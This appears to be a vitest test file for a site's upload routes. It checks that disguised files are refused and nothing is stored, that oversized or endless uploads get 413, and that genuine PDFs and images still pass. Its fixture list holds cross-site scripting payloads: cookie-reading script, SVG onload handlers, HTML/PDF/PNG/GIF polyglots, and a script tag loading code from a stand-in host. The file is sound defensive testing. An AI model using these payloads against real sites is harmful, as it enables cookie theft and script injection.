import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { pipeline } from 'node:stream/promises';
import { Readable, Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IMAGES, PDF, SignatureCheck } from '../lib/content-type.ts';
import { pdfBytes } from '../test/multipart.ts';
import { createTestApp, type TestApp } from '../test/test-app.ts';
import { prepareUploadTargets, storageState, type UploadTarget, uploadTo } from '../test/upload-targets.ts';

const PNG_HEADER = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const PNG = Buffer.concat([PNG_HEADER, Buffer.alloc(64, 7)]);

/** Files an attacker would like the site to store and later serve to an organiser or author. */
const HOSTILE_FILES: { label: string; name: string; type: string; content: Buffer }[] = [
  {
    label: 'an HTML page',
    name: 'abstract.pdf',
    type: 'application/pdf',
    content: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'),
  },
  {
    label: 'an HTML page with a byte-order mark',
    name: 'abstract.html',
    type: 'text/html',
    content: Buffer.from('\ufeff<html><script>alert(1)</script></html>'),
  },
  {
    label: 'an SVG with script',
    name: 'figure.svg',
    type: 'image/svg+xml',
    content: Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    ),
  },
  {
    label: 'an SVG named .png',
    name: 'figure.png',
    type: 'image/png',
    content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  },
  {
    label: 'a Windows executable named .pdf',
    name: 'paper.pdf',
    type: 'application/pdf',
    content: Buffer.concat([
      Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
      Buffer.alloc(56),
      Buffer.from('This program cannot be run in DOS mode.'),
    ]),
  },
  {
    label: 'an ELF executable named .png',
    name: 'photo.png',
    type: 'image/png',
    content: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0)]),
  },
  {
    // Readers accept %PDF- anywhere in the first kilobyte; browsers see the page first.
    label: 'an HTML/PDF polyglot that starts as HTML',
    name: 'paper.pdf',
    type: 'application/pdf',
    content: Buffer.from(
      '<html><script>alert(1)</script><!--\n%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n-->',
    ),
  },
  {
    label: 'a PDF with an HTML page in its first kilobyte',
    name: 'paper.pdf',
    type: 'application/pdf',
    content: Buffer.concat([
      pdfBytes('head').subarray(0, 9),
      Buffer.from('<html><body><script>alert(1)</script></body></html>\n'),
      pdfBytes(),
    ]),
  },
  {
    label: 'a PDF with a script tag after its header',
    name: 'paper.pdf',
    type: 'application/pdf',
    content: Buffer.concat([
      Buffer.from('%PDF-1.7\n%'),
      Buffer.alloc(300, 0x20),
      Buffer.from('<SCRIPT src=//evil.example/x.js></SCRIPT>\n'),
      pdfBytes(),
    ]),
  },
  {
    label: 'a PNG carrying an HTML page (a polyglot disguised as an image)',
    name: 'plot.png',
    type: 'image/png',
    content: Buffer.concat([
      PNG_HEADER,
      Buffer.from('<!DOCTYPE html><iframe src="javascript:alert(1)"></iframe>'),
      Buffer.alloc(64, 7),
    ]),
  },
  {
    label: 'a GIF whose header continues as script',
    name: 'anim.gif',
    type: 'image/gif',
    content: Buffer.from('GIF89a/*<svg onload=alert(1)>*/=1;alert(1);'),
  },
];

describe('uploads refuse files that are not what the site takes, and keep nothing of them', () => {
  let t: TestApp;
  let targets: UploadTarget[];

  beforeAll(async () => {
    t = await createTestApp();
    ({ targets } = await prepareUploadTargets(t));
  });
  afterAll(() => t.close());

  it.each(HOSTILE_FILES)('refuses $label on every upload route, storing nothing', async (file) => {
    for (const target of targets) {
      const before = await storageState(t);
      const res = await uploadTo(t, target, [file]);
      expect(res.statusCode, `${target.route}: ${res.body}`).toBe(400);
      expect(res.json().message, target.route).toBe(target.wrongTypeMessage(file.name));
      expect(await storageState(t), target.route).toEqual(before);
    }
  });

  it('refuses a hostile file sent after a good one in the same request, removing the good one too', async () => {
    const chat = targets.find((target) => target.acceptsImages)!;
    const before = await storageState(t);
    const res = await uploadTo(t, chat, [
      { name: 'fine.png', type: 'image/png', content: PNG },
      { name: 'fine.pdf', content: pdfBytes() },
      HOSTILE_FILES[0]!,
    ]);
    expect(res.statusCode).toBe(400);
    expect(await storageState(t)).toEqual(before);
  });

  it('cuts a file one byte over the limit off with 413 on every route, leaving no partial file', async () => {
    for (const target of targets) {
      const head = target.acceptsImages ? PNG : pdfBytes();
      const before = await storageState(t);
      const res = await uploadTo(t, target, [
        { name: 'big.pdf', content: Buffer.concat([head, Buffer.alloc(target.maxBytes + 1 - head.length, 32)]) },
      ]);
      expect(res.statusCode, target.route).toBe(413);
      expect(res.json().message, target.route).toBe(target.tooLargeMessage('big.pdf'));
      expect(await storageState(t), target.route).toEqual(before);
    }
  });

  it('answers an endless upload with 413 and stops reading it, over a real connection', async () => {
    const target = targets[0]!;
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const before = await storageState(t);
    const boundary = 'endless-upload-boundary';
    const chunk = Buffer.alloc(64 * 1024, 32);
    const willingToSend = 256 * 1024 * 1024;
    let written = 0;
    // A client that would send 256 MB: the answer must come while it is still sending, and
    // the server must stop taking bytes (only socket buffers fill up past the 10 MB limit).
    const answer = await new Promise<{ status: number; connection: string | undefined; writtenWhenAnswered: number }>(
      (resolve, reject) => {
        const request = http.request(
          {
            host: '127.0.0.1',
            port,
            method: 'POST',
            path: target.url,
            headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, cookie: target.uploader.cookie },
          },
          (response) => {
            resolve({
              status: response.statusCode ?? 0,
              connection: response.headers.connection,
              writtenWhenAnswered: written,
            });
            request.destroy();
          },
        );
        request.on('error', (error) => reject(error));
        request.write(
          `--${boundary}\r\nContent-Disposition: form-data; name="${target.fileField}"; filename="huge.pdf"\r\n\r\n%PDF-1.4\n`,
        );
        const pump = () => {
          while (written < willingToSend) {
            written += chunk.length;
            if (!request.write(chunk)) {
              request.once('drain', pump);
              return;
            }
          }
          request.end(`\r\n--${boundary}--\r\n`);
        };
        pump();
      },
    );
    expect(answer.status).toBe(413);
    // The unread rest is not waited for: the server closes the connection after answering.
    expect(answer.connection).toBe('close');
    expect(answer.writtenWhenAnswered).toBeLessThan(willingToSend / 4);
    expect(await storageState(t)).toEqual(before);
  });

  it('still takes a real PDF (with XML metadata near its start) and a real image: the refusals were about content', async () => {
    const xmp = Buffer.from(
      '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Metadata /Subtype /XML >> stream\n' +
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Heated cylinder wakes</rdf:li></rdf:Alt></dc:title>' +
        '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>\nendstream endobj\n' +
        // A catalog with one page, which the upload's preflight needs to read the file.
        '2 0 obj << /Type /Catalog /Pages 3 0 R /Metadata 1 0 R >> endobj\n' +
        '3 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n' +
        '4 0 obj << /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >> endobj\n' +
        'trailer << /Root 2 0 R >>\n%%EOF\n',
      'latin1',
    );
    for (const target of targets) {
      const before = await storageState(t);
      const res = await uploadTo(t, target, [{ name: 'paper.pdf', content: xmp }]);
      expect(res.statusCode, `${target.route}: ${res.body}`).toBeLessThan(300);
      expect((await storageState(t)).rows, target.route).toBe(before.rows + 1);
    }
    const chat = targets.find((target) => target.acceptsImages)!;
    const image = await uploadTo(t, chat, [{ name: 'plot.png', type: 'image/png', content: PNG }]);
    expect(image.statusCode).toBe(201);
  });
});

describe('the markup check does not refuse real binary content', () => {
  /** A small deterministic generator, so a failure names the same sample every run. */
  function* randomBytes(seed: number): Generator<number> {
    let state = seed;
    for (;;) {
      state = (Math.imul(state, 1103515245) + 12345) >>> 0;
      yield state >>> 24;
    }
  }

  it('passes 3,000 images whose first kilobyte is random, like compressed pixel data', async () => {
    const bytes = randomBytes(2025);
    const refused: number[] = [];
    for (let sample = 0; sample < 3_000; sample += 1) {
      const body = Buffer.from(Array.from({ length: 2048 }, () => bytes.next().value as number));
      PNG_HEADER.copy(body);
      const check = new SignatureCheck([...IMAGES, PDF], 'refused');
      const passed = await pipeline(
        Readable.from([body]),
        check,
        new Writable({ write: (_chunk, _encoding, done) => done() }),
      ).then(
        () => true,
        () => false,
      );
      if (!passed) refused.push(sample);
    }
    expect(refused).toEqual([]);
  });
});
